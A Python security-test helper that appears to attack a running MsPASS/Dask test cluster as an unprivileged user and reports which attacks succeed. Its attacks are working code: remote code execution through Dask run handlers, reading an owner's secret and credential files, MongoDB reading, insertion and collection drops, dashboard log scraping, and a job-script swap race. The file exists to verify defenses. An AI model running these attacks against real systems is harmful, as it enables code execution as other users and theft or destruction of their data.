"""The intruder of the security tests: every attack of issue 10, tried for real.

Run as an ordinary user who is not the cluster's owner (``tests/test_security.py`` runs it as
``mspass-intruder``, on the login host or, through ``ip netns exec``, inside a test-bed node)::

    python security_intruder.py attack TARGETS_JSON --token T --where login|node:nX [--only a,b]
    python security_intruder.py swap WORK_DIR --marker PATH --stop PATH

Both print one JSON object on stdout, ``{attack: {"succeeded": bool, "evidence": str}}``. Every
attack is bounded in time: one that hangs counts as failed, with that said in its evidence.

``attack`` reads what ``security_owner.py`` wrote (addresses, ports, file paths: what ``ss -ltn``
and a guess would tell anyone) and tries, each with no credentials and, where the service speaks
TLS, with a certificate of its own from a CA the cluster never saw, and with the owner's own
credentials (``ca.pem``, ``worker.pem``, ``db-client.pem``) if it can read those files:

- ``scheduler_run_on_workers``: ``Client(scheduler).run(f)``, ``f`` writing a file into the
  owner's home; succeeded when a worker wrote it as the owner.
- ``scheduler_run_on_scheduler``: ``run_on_scheduler(f)`` reading ``OWNER_SECRET`` from the
  owner's notebook process.
- ``worker_rpc_run``, ``nanny_rpc_run``: the ``run`` handler of a worker and of a nanny called
  directly (``distributed.core.rpc``), bypassing the scheduler, with the same file-writing ``f``.
- ``db_list``, ``db_read``, ``db_insert``, ``db_drop``: pymongo on the database's host and port
  (and on ``127.0.0.1`` when this runs on the database's node or on the login host of a local
  cluster): list the owner's collections, read its secret document, insert into its database,
  drop its collection (verified by reading again).
- ``dashboard_logs_external`` and, on the login host, ``dashboard_logs_loopback``: the scheduler's
  dashboard, over http and https, on the login host's external addresses and on ``127.0.0.1``:
  the scheduler's log page (``/info/main/logs.html``) or a worker's (``/info/logs/<worker>.html``).
- ``read_job_scripts``, ``read_job_logs``, ``read_heartbeat``, ``read_db_files``: open and read
  any file of that kind the cluster wrote.
- ``plain_tcp_listeners``: ``ss -ltne`` here (this network namespace); a socket of the owner
  listening on an address other than loopback that does not speak TLS (a TLS handshake without a
  client certificate tells them apart) is a finding.

``swap`` is the script-swap race in a shared ``work_dir``: it pre-creates ``WORK_DIR/logs``
world-writable, then watches it (inotify) and replaces every job script (``*.sh``) another user
writes there, the moment it is closed, by the same script with ``touch MARKER`` as its first
command; prints ``ready`` when watching, and its report once ``--stop`` exists. Succeeded when
the marker exists and belongs to the script's writer: the owner's job ran the intruder's script.
"""

from __future__ import annotations

import argparse
import ctypes
import ipaddress
import json
import os
import pwd
import select
import shlex
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

#: Seconds each network attempt (connect, handshake, request, server selection) may take.
STEP_TIMEOUT = 4.0
#: Seconds the whole set of attacks may take; what has not finished by then failed (it hung).
TOTAL_TIMEOUT = 90.0


def short(exc: BaseException, limit: int = 240) -> str:
    text = f"{type(exc).__name__}: {exc}".replace("\n", " ")
    return text if len(text) <= limit else text[: limit - 3] + "..."


# --------------------------------------------------------------------------- credentials of a stranger


def own_certificate(directory: str) -> str | None:
    """A key and certificate of the intruder's own (a self-signed CA), as one PEM file; None without cryptography."""
    try:
        import datetime

        from cryptography import x509
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import ec
        from cryptography.x509.oid import NameOID
    except ImportError:
        return None
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mspass-intruder")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    path = os.path.join(directory, "intruder.pem")
    with open(path, "wb") as f:
        f.write(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        )
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    return path


def stranger_tls_context(cert: str | None) -> ssl.SSLContext:
    """A TLS client context that trusts any server and presents ``cert`` (or nothing)."""
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if cert:
        ctx.load_cert_chain(cert)
    return ctx


def stolen_credentials(targets: dict) -> dict[str, str]:
    """The owner's credential files (names of ``security-contract.md``) that this user can read: ``{name: path}``."""
    found = {}
    for path in (p for paths in targets["files"].values() for p in paths):
        name = os.path.basename(path)
        if name in ("ca.pem", "worker.pem", "db-client.pem") and name not in found:
            try:
                with open(path, "rb") as f:
                    f.read(1)
            except OSError:
                continue
            found[name] = path
    return found


def dask_credentials(address: str, cert: str | None, stolen: dict[str, str]) -> list[tuple[str, object]]:
    """How a stranger can speak to a Dask address: ``(label, Security or None)`` to try in turn."""
    from distributed.security import Security

    class Stranger(Security):
        """No credentials of the cluster: trusts any server, shows ``cert`` or none."""

        def __init__(self, cert):
            super().__init__()
            self._cert = cert

        def get_connection_args(self, role):
            return {"ssl_context": stranger_tls_context(self._cert), "require_encryption": False, "extra_conn_args": {}}

    if not address.startswith("tls://"):
        return [("no credentials", None)]
    tries = [("TLS without a client certificate", Stranger(None))]
    if cert:
        tries.append(("TLS with the intruder's own certificate", Stranger(cert)))
    if "ca.pem" in stolen and "worker.pem" in stolen:
        owners = Security(
            tls_ca_file=stolen["ca.pem"],
            tls_client_cert=stolen["worker.pem"],
            tls_client_key=stolen["worker.pem"],
            require_encryption=True,
        )
        tries.append(("TLS with the owner's credentials, read from its files", owners))
    return tries


# --------------------------------------------------------------------------- code that runs as the victim


def plant(prefix: str) -> dict:
    """Runs wherever the attack got code executed: write a file next to ``prefix`` and say who wrote it."""
    import os
    import pwd
    import socket

    path = f"{prefix}-{socket.gethostname()}-{os.getpid()}"
    with open(path, "w") as f:
        f.write("written by code of mspass-intruder\n")
    st = os.stat(path)
    return {"path": path, "uid": st.st_uid, "user": pwd.getpwuid(os.getuid()).pw_name, "host": socket.gethostname()}


def read_owner_secret() -> dict:
    """Runs in the scheduler's process (the owner's notebook): its environment."""
    import os
    import pwd

    return {"user": pwd.getpwuid(os.getuid()).pw_name, "OWNER_SECRET": os.environ.get("OWNER_SECRET")}


# --------------------------------------------------------------------------- the attacks


class Attacks:
    """Every attack on the cluster ``targets`` describes; each returns ``(succeeded, evidence)``."""

    def __init__(self, targets: dict, token: str, where: str, cert: str | None):
        self.t = targets
        self.token = token
        self.where = where  # "login" or "node:<name>"
        self.cert = cert
        self.stolen = stolen_credentials(targets)
        self.owner_uid = targets["owner_uid"]

    def prefix(self, attack: str) -> str:
        return os.path.join(self.t["owner_home"], f"pwned-{self.token}-{attack}")

    def planted_by_owner(self, results) -> list[dict]:
        return [r for r in results if isinstance(r, dict) and r.get("uid") == self.owner_uid]

    # -- Dask, through the scheduler
    def scheduler(self) -> dict[str, tuple[bool, str]]:
        from distributed import Client

        address = self.t["scheduler"]
        tried = []
        for label, security in dask_credentials(address, self.cert, self.stolen):
            try:
                client = Client(address, security=security, timeout=STEP_TIMEOUT, set_as_default=False)
            except Exception as exc:
                tried.append(f"{label}: {short(exc)}")
                continue
            try:
                out = {}
                try:
                    results = list(client.run(plant, self.prefix("scheduler_run_on_workers")).values())
                    planted = self.planted_by_owner(results)
                    out["scheduler_run_on_workers"] = (bool(planted), f"{label}: Client.run wrote {results}")
                except Exception as exc:
                    out["scheduler_run_on_workers"] = (False, f"{label}: connected, Client.run failed: {short(exc)}")
                try:
                    found = client.run_on_scheduler(read_owner_secret)
                    ok = bool(found.get("OWNER_SECRET")) and found.get("user") == self.t["owner"]
                    out["scheduler_run_on_scheduler"] = (ok, f"{label}: run_on_scheduler returned {found}")
                except Exception as exc:
                    out["scheduler_run_on_scheduler"] = (
                        False,
                        f"{label}: connected, run_on_scheduler failed: {short(exc)}",
                    )
                return out
            finally:
                try:
                    client.close(timeout=STEP_TIMEOUT)
                except Exception:
                    pass
        why = f"could not connect to {address}: " + "; ".join(tried)
        return {"scheduler_run_on_workers": (False, why), "scheduler_run_on_scheduler": (False, why)}

    # -- Dask, straight to a worker's or a nanny's run handler
    def rpc_run(self, attack: str, addresses: list[str]) -> tuple[bool, str]:
        import asyncio

        from distributed.core import rpc
        from distributed.protocol.pickle import dumps

        if not addresses:
            return False, "the owner reported no such address (nothing to attack: see targets.json)"
        tried = []

        async def call(address, security):
            args = security.get_connection_args("client") if security is not None else {}
            r = rpc(address, timeout=STEP_TIMEOUT, connection_args=args)
            try:
                return await asyncio.wait_for(
                    r.run(function=dumps(plant), args=dumps((self.prefix(attack),))), 2 * STEP_TIMEOUT
                )
            finally:
                await r.close_rpc()

        for address in addresses:
            for label, security in dask_credentials(address, self.cert, self.stolen):
                try:
                    response = asyncio.run(call(address, security))
                except BaseException as exc:
                    if isinstance(exc, KeyboardInterrupt):
                        raise
                    tried.append(f"{address} ({label}): {short(exc)}")
                    continue
                result = response.get("result") if isinstance(response, dict) else None
                if self.planted_by_owner([result]):
                    return True, f"{address} ({label}): run returned {result}"
                tried.append(f"{address} ({label}): answered {str(response)[:200]}")
        return False, "; ".join(tried)

    # -- the database
    def db(self) -> dict[str, tuple[bool, str]]:
        import pymongo

        names = ("db_list", "db_read", "db_insert", "db_drop")
        db_name, secrets = self.t["secret_collection"]
        _, planted = self.t["planted_collection"]
        hosts = [self.t["db"]["host"]]
        on_db_node = self.where == f"node:{self.t['db'].get('node')}"
        if on_db_node or (self.t["backend"] == "local" and self.where == "login"):
            hosts.append("127.0.0.1")
        port = int(self.t["db"]["port"])
        timeouts = dict(serverSelectionTimeoutMS=int(STEP_TIMEOUT * 1000), connectTimeoutMS=int(STEP_TIMEOUT * 1000))
        timeouts["socketTimeoutMS"] = int(STEP_TIMEOUT * 1000)
        ways = [("plain", {})]
        ways.append(("TLS without a client certificate", dict(tls=True, tlsAllowInvalidCertificates=True)))
        if self.cert:
            ways.append(
                (
                    "TLS with the intruder's own certificate",
                    dict(tls=True, tlsAllowInvalidCertificates=True, tlsCertificateKeyFile=self.cert),
                )
            )
        if "ca.pem" in self.stolen and "db-client.pem" in self.stolen:
            ways.append(
                (
                    "TLS and x.509 with the owner's credentials, read from its files",
                    dict(
                        tls=True,
                        tlsAllowInvalidHostnames=True,
                        tlsCAFile=self.stolen["ca.pem"],
                        tlsCertificateKeyFile=self.stolen["db-client.pem"],
                        authMechanism="MONGODB-X509",
                        authSource="$external",
                    ),
                )
            )

        def connect(host, label, extra):
            client = pymongo.MongoClient(host, port, directConnection=True, **timeouts, **extra)
            try:
                client.admin.command("ping")
            except Exception as exc:
                client.close()
                return f"{host}:{port} {label}: {short(exc, 160)}"
            return f"{host}:{port} {label}", client

        # Every way at once: each one that cannot connect costs a whole server-selection timeout.
        with ThreadPoolExecutor(max_workers=8) as pool:
            attempts = list(pool.map(lambda way: connect(*way), [(h, *w) for h in dict.fromkeys(hosts) for w in ways]))
        clients = [a for a in attempts if isinstance(a, tuple)]
        tried = [a for a in attempts if isinstance(a, str)]
        if not clients:
            why = "no connection: " + "; ".join(tried)
            return {n: (False, why) for n in names}

        def first(op):
            """``op(client)`` -> (succeeded, evidence) with each connection in turn, until one succeeds."""
            notes = []
            for label, client in clients:
                try:
                    ok, evidence = op(client)
                except Exception as exc:
                    ok, evidence = False, short(exc, 200)
                notes.append(f"{label}: {evidence}")
                if ok:
                    return True, notes[-1]
            return False, "; ".join(notes)

        def listing(client):
            found = client[db_name].list_collection_names()
            return secrets in found, f"collections of {db_name}: {found}"

        read_docs = []

        def reading(client):
            doc = client[db_name][secrets].find_one()
            if doc:
                read_docs.append(doc)
            return bool(doc and doc.get("secret")), f"read {doc}"

        def inserting(client):
            mark = {"intruder": self.token}
            client[db_name][planted].insert_one(dict(mark))
            back = client[db_name][planted].find_one(mark)
            return back is not None, f"inserted into {db_name}.{planted}, read back {back}"

        def dropping(client):
            before = client[db_name][secrets].count_documents({})
            client[db_name].drop_collection(secrets)
            after = client[db_name][secrets].count_documents({})
            return before > 0 and after == 0, f"{db_name}.{secrets}: {before} document(s) before drop, {after} after"

        out = {"db_list": first(listing), "db_read": first(reading), "db_insert": first(inserting)}
        out["db_drop"] = first(dropping)
        for _, client in clients:
            client.close()
        return out

    # -- the dashboard
    def dashboard(self, attack: str, hosts: list[str]) -> tuple[bool, str]:
        port = self.t.get("dashboard_port")
        if not port:
            return False, "the scheduler reports no dashboard port (no dashboard to attack)"
        workers = self.t.get("workers") or []
        paths = ["/info/main/logs.html"] + [f"/info/logs/{urllib.parse.quote(w, safe='')}.html" for w in workers[:1]]
        ctx = stranger_tls_context(self.cert)
        tried = []
        for host in hosts:
            for scheme in ("http", "https"):
                for path in paths:
                    url = f"{scheme}://{host}:{port}{path}"
                    try:
                        with urllib.request.urlopen(url, timeout=STEP_TIMEOUT, context=ctx) as answer:
                            body = answer.read(200_000).decode("utf-8", "replace")
                            status = answer.status
                    except Exception as exc:
                        tried.append(f"{url}: {short(exc, 120)}")
                        continue
                    if status == 200 and "Logs" in body:
                        return True, f"{url}: HTTP {status}, {len(body)} characters of a log page"
                    tried.append(f"{url}: HTTP {status} without logs")
        return False, "; ".join(tried) or "no address to try"

    # -- the files
    def read_files(self, kind: str) -> tuple[bool, str]:
        paths = self.t["files"].get(kind) or []
        if not paths:
            return False, f"the owner's cluster wrote no file of kind {kind!r} (nothing to read: see targets.json)"
        refused = []
        for path in paths:
            try:
                with open(path, "rb") as f:
                    data = f.read(4096)
            except OSError as exc:
                refused.append(f"{path}: {exc.strerror}")
                continue
            return True, f"read {len(data)} byte(s) of {path} ({len(paths)} file(s) of this kind)"
        return False, f"every file of this kind refused: {'; '.join(refused[:5])}"

    # -- listeners
    def listeners(self) -> tuple[bool, str]:
        found = owner_listeners(self.owner_uid)
        if isinstance(found, str):
            return False, found
        exposed = [(host, port) for host, port in found if not is_loopback(host)]
        if not exposed:
            return (
                False,
                f"no listener of uid {self.owner_uid} on a non-loopback address here ({len(found)} on loopback)",
            )
        here = my_address()
        targets = [(here if is_wildcard(host) else host, port) for host, port in exposed]
        with ThreadPoolExecutor(max_workers=16) as pool:
            kinds = list(pool.map(lambda target: probe_tls(*target), targets))
        notes = [f"{h}:{p} ({t}) {kind}" for (h, p), (t, _), kind in zip(exposed, targets, kinds)]
        plain = [f"{h}:{p}" for (h, p), kind in zip(exposed, kinds) if kind.startswith("plain")]
        return bool(plain), f"plain TCP: {plain}; all non-loopback listeners of the owner: {notes}"


def owner_listeners(uid: int) -> list[tuple[str, int]] | str:
    """``(host, port)`` of every TCP socket of ``uid`` listening in this network namespace, from ``ss -ltne``."""
    try:
        out = subprocess.run(["ss", "-Hltne"], capture_output=True, text=True, timeout=STEP_TIMEOUT)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return f"ss failed: {short(exc)}"
    found = []
    for line in out.stdout.splitlines():
        fields = line.split()
        if len(fields) < 5 or f"uid:{uid}" not in fields:
            continue
        host, _, port = fields[3].rpartition(":")
        found.append((host.strip("[]").split("%")[0], int(port)))
    return found


def is_loopback(host: str) -> bool:
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return host == "localhost"


def is_wildcard(host: str) -> bool:
    return host in ("*", "0.0.0.0", "::", "")


def my_address() -> str:
    """An IPv4 address of this network namespace other than loopback."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True)
    for line in out.stdout.splitlines():
        fields = line.split()
        if "inet" in fields:
            return fields[fields.index("inet") + 1].split("/")[0]
    return "127.0.0.1"


def probe_tls(host: str, port: int) -> str:
    """Does ``host:port`` speak TLS? A handshake without a client certificate, then one read."""
    ctx = stranger_tls_context(None)
    try:
        raw = socket.create_connection((host, port), timeout=STEP_TIMEOUT / 2)
    except OSError as exc:
        return f"unreachable ({short(exc, 80)})"
    try:
        raw.settimeout(STEP_TIMEOUT / 2)
        with ctx.wrap_socket(raw, server_hostname=None) as tls:
            try:
                tls.settimeout(1.0)
                tls.recv(1)
                return "TLS, no client certificate asked"
            except ssl.SSLError as exc:
                if "CERTIFICATE_REQUIRED" in str(exc) or "ALERT" in str(exc).upper():
                    return f"TLS, client certificate required ({exc.reason})"
                return f"TLS ({short(exc, 80)})"
            except (TimeoutError, socket.timeout):
                return "TLS, no client certificate asked (no alert within 1 s)"
            except OSError as exc:
                return f"TLS, then closed ({short(exc, 80)})"
    except ssl.SSLError as exc:
        if "ALERT" in str(exc).upper():
            return f"TLS, handshake refused ({exc.reason})"
        return f"plain TCP (not a TLS answer: {exc.reason or short(exc, 80)})"
    except (TimeoutError, socket.timeout):
        return "plain TCP (no TLS answer within the timeout)"
    except OSError as exc:
        return f"plain TCP (closed on a TLS hello: {short(exc, 80)})"
    finally:
        raw.close()


# --------------------------------------------------------------------------- running them, bounded


def run_bounded(groups: dict[str, tuple[tuple[str, ...], object]], total: float) -> dict:
    """Run each group's callable in its own thread; whatever has no result after ``total`` seconds failed."""
    report: dict[str, dict] = {}
    lock = threading.Lock()

    def one(names, work):
        began = time.monotonic()
        try:
            results = work()
        except Exception as exc:
            results = {n: (False, f"attack crashed: {short(exc)}") for n in names}
        print(f"{', '.join(names)}: {time.monotonic() - began:.1f} s", file=sys.stderr, flush=True)
        with lock:
            for name, (ok, evidence) in results.items():
                report[name] = {"succeeded": bool(ok), "evidence": str(evidence)}

    threads = [threading.Thread(target=one, args=g, daemon=True) for g in groups.values()]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + total
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    with lock:
        for names, _ in groups.values():
            for name in names:
                report.setdefault(name, {"succeeded": False, "evidence": f"no answer within {total:g} s (a hang)"})
        return dict(report)


def attack(args) -> dict:
    # Imported here, once, before the threads: concurrent first imports of distributed break.
    import distributed  # noqa: F401
    import distributed.core  # noqa: F401
    import distributed.protocol.pickle  # noqa: F401
    import pymongo  # noqa: F401

    with open(args.targets) as f:
        targets = json.load(f)
    scratch = tempfile.mkdtemp(prefix="mspass-intruder-")
    cert = own_certificate(scratch)
    a = Attacks(targets, args.token, args.where, cert)
    login_hosts = targets.get("login_host_addresses") or []
    scheduler_host = urllib.parse.urlparse(targets["scheduler"]).hostname
    external = [h for h in dict.fromkeys([scheduler_host, *login_hosts]) if h and not is_loopback(h)]
    files = {
        "read_job_scripts": "scripts",
        "read_job_logs": "logs",
        "read_heartbeat": "heartbeat",
        "read_db_files": "db_files",
    }
    groups = {
        "scheduler": (("scheduler_run_on_workers", "scheduler_run_on_scheduler"), a.scheduler),
        "worker_rpc": (
            ("worker_rpc_run",),
            lambda: {"worker_rpc_run": a.rpc_run("worker_rpc_run", targets["workers"])},
        ),
        "nanny_rpc": (("nanny_rpc_run",), lambda: {"nanny_rpc_run": a.rpc_run("nanny_rpc_run", targets["nannies"])}),
        "db": (("db_list", "db_read", "db_insert", "db_drop"), a.db),
        "dashboard_external": (
            ("dashboard_logs_external",),
            lambda: {"dashboard_logs_external": a.dashboard("dashboard_logs_external", external)},
        ),
        "files": (tuple(files), lambda: {name: a.read_files(kind) for name, kind in files.items()}),
        "listeners": (("plain_tcp_listeners",), lambda: {"plain_tcp_listeners": a.listeners()}),
    }
    if args.where == "login":
        groups["dashboard_loopback"] = (
            ("dashboard_logs_loopback",),
            lambda: {"dashboard_logs_loopback": a.dashboard("dashboard_logs_loopback", ["127.0.0.1"])},
        )
    if args.only:
        wanted = set(args.only.split(","))
        groups = {k: (tuple(n for n in names if n in wanted), work) for k, (names, work) in groups.items()}
        groups = {k: g for k, g in groups.items() if g[0]}
    report = run_bounded(groups, TOTAL_TIMEOUT)
    shutil.rmtree(scratch, ignore_errors=True)
    if args.only:
        report = {k: v for k, v in report.items() if k in wanted}
    return report


# --------------------------------------------------------------------------- the script-swap race

IN_CLOSE_WRITE, IN_MOVED_TO, IN_CREATE, IN_ISDIR = 0x8, 0x80, 0x100, 0x40000000
EVENT = struct.Struct("iIII")


class Inotify:
    """The few inotify calls the watcher needs, through libc (no third-party module)."""

    def __init__(self):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_CLOEXEC)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1 failed")
        self.dirs: dict[int, str] = {}

    def watch(self, directory: str) -> bool:
        wd = self.libc.inotify_add_watch(self.fd, os.fsencode(directory), IN_CLOSE_WRITE | IN_MOVED_TO | IN_CREATE)
        if wd < 0:
            return False
        self.dirs[wd] = directory
        return True

    def events(self, timeout: float):
        """``(directory, name, mask)`` of the events within ``timeout`` seconds."""
        ready, _, _ = select.select([self.fd], [], [], timeout)
        if not ready:
            return
        data = os.read(self.fd, 65536)
        offset = 0
        while offset < len(data):
            wd, mask, _, length = EVENT.unpack_from(data, offset)
            name = data[offset + EVENT.size : offset + EVENT.size + length].rstrip(b"\0").decode()
            offset += EVENT.size + length
            if wd in self.dirs:
                yield self.dirs[wd], name, mask


def with_marker(script: str, marker: str) -> str:
    """``script`` with ``touch marker`` as its first command (after the ``#!`` and ``#SBATCH`` lines)."""
    lines = script.splitlines(keepends=True)
    at = 0
    while at < len(lines) and (lines[at].startswith("#") or not lines[at].strip()):
        at += 1
    return "".join(lines[:at]) + f"touch {shlex.quote(marker)}\n" + "".join(lines[at:])


def swap(args) -> dict:
    me = os.getuid()
    logs = os.path.join(args.work_dir, "logs")
    os.makedirs(logs, exist_ok=True)
    os.chmod(logs, 0o777)
    watcher = Inotify()
    watcher.watch(args.work_dir)
    watcher.watch(logs)
    print("ready", flush=True)
    swapped, notes = [], []
    count = 0
    while not os.path.exists(args.stop):
        for directory, name, mask in watcher.events(0.2):
            path = os.path.join(directory, name)
            if mask & IN_ISDIR:
                if mask & (IN_CREATE | IN_MOVED_TO):
                    watcher.watch(path)  # fails, and that is fine, for a directory this user cannot read
                continue
            # Written in place (close-write) or written aside and renamed in (moved-to): both can be swapped.
            if not (mask & (IN_CLOSE_WRITE | IN_MOVED_TO)) or not name.endswith(".sh"):
                continue
            try:
                if os.stat(path).st_uid == me:
                    continue  # a swap of ours
                with open(path) as f:
                    payload = with_marker(f.read(), args.marker)
                count += 1
                tmp = os.path.join(directory, f".swap-{count}")
                with open(tmp, "w") as f:
                    f.write(payload)
                os.chmod(tmp, 0o755)
                os.replace(tmp, path)
                swapped.append(path)
            except OSError as exc:
                notes.append(f"{path}: {short(exc, 120)}")
    try:
        st = os.stat(args.marker)
        owner = pwd.getpwuid(st.st_uid).pw_name
        ok = st.st_uid != me
        marker = f"marker {args.marker} exists, owned by {owner}"
    except OSError as exc:
        ok, marker = False, f"no marker ({exc.strerror})"
    evidence = f"swapped {len(swapped)} script(s) {swapped}; {marker}" + (f"; {notes}" if notes else "")
    return {"script_swap": {"succeeded": ok, "evidence": evidence}}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="mode", required=True)
    a = sub.add_parser("attack", help="attack a running cluster")
    a.add_argument("targets", help="targets.json written by security_owner.py")
    a.add_argument("--token", required=True, help="names the files the attacks plant")
    a.add_argument("--where", default="login", help="'login', or 'node:<name>' inside that node's namespace")
    a.add_argument("--only", default="", help="comma-separated attacks to try (default: all)")
    s = sub.add_parser("swap", help="the script-swap race in a shared work_dir")
    s.add_argument("work_dir")
    s.add_argument("--marker", required=True)
    s.add_argument("--stop", required=True)
    args = parser.parse_args(argv)
    report = attack(args) if args.mode == "attack" else swap(args)
    print(json.dumps(report, indent=1, sort_keys=True), flush=True)
    os._exit(0)  # threads stuck in a hung attack must not hold the exit


if __name__ == "__main__":
    sys.exit(main())
